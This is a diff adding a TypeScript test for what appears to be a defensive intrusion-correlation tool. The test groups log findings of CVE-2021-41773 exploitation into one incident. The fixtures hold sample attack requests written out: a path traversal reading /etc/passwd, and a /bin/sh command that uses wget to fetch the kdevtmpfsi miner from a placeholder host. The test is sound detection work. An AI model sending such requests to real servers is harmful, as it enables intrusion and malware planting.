@@ -248,6 +248,71 @@ test("an attacker who only read files is never named as the one who broke in", (
   assert.ok(!inc.links?.some((l) => l.reasons.includes("web-user")), JSON.stringify(inc.links));
 });
 
+test("an attacker who read files through the same hole stays in the incident when the planting came weeks later", () => {
+  const exploit = (id: string, ip: string, time: string, value: string, files: string[]) =>
+    f({
+      id,
+      check: "logs.exploit",
+      severity: "critical",
+      cves: ["CVE-2021-41773"],
+      time,
+      timeSource: "log",
+      evidence: [{ path: "/usr/local/apache2/logs/access_log", line: 6, time, value }],
+      data: {
+        ip,
+        attack: "cve-2021-41773",
+        outcome: "succeeded",
+        successTimes: [time],
+        indicators: { urls: files.map((x) => `http://198.51.100.7/${x}`), ips: [], files },
+      },
+    });
+  const reader = exploit(
+    "logs.exploit:1",
+    "45.146.164.110",
+    "2026-11-20T03:05:31.000Z",
+    "GET /icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1",
+    [],
+  );
+  const planter = exploit(
+    "logs.exploit:2",
+    "203.0.113.5",
+    "2026-11-20T03:14:07.000Z",
+    "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh?-c+wget%20http://198.51.100.7/kdevtmpfsi HTTP/1.1",
+    ["kdevtmpfsi"],
+  );
+  const other = f({
+    id: "logs.exploit:3",
+    check: "logs.exploit",
+    severity: "critical",
+    cves: ["CVE-2017-9798"],
+    time: "2026-11-20T03:06:00.000Z",
+    timeSource: "log",
+    data: {
+      ip: "192.0.2.99",
+      attack: "optionsbleed",
+      outcome: "succeeded",
+      successTimes: ["2026-11-20T03:06:00.000Z"],
+    },
+  });
+  const dropped = f({
+    id: "file.suspicious:1",
+    check: "file.suspicious",
+    time: "2026-12-04T10:00:00.000Z",
+    timeSource: "mtime",
+    data: { path: "/tmp/kdevtmpfsi", user: "daemon" },
+  });
+  const incidents = correlate([reader, planter, other, dropped], ctx);
+  assert.equal(incidents.length, 1);
+  const inc = incidents[0];
+  assert.ok(inc);
+  assert.deepEqual(inc.attackerRoles, [
+    { ip: "203.0.113.5", role: "planted" },
+    { ip: "45.146.164.110", role: "read" },
+  ]);
+  // Another hole's success is its own story, not this break-in's.
+  assert.ok(!inc.findingIds.includes("logs.exploit:3"));
+});
+
 /** The compromised fixture root with the planted files' times set (git does not keep them). */
 function compromisedRoot(t: { after: (fn: () => void) => void }): string {
   const root = path.join(tempDir(t), "root");
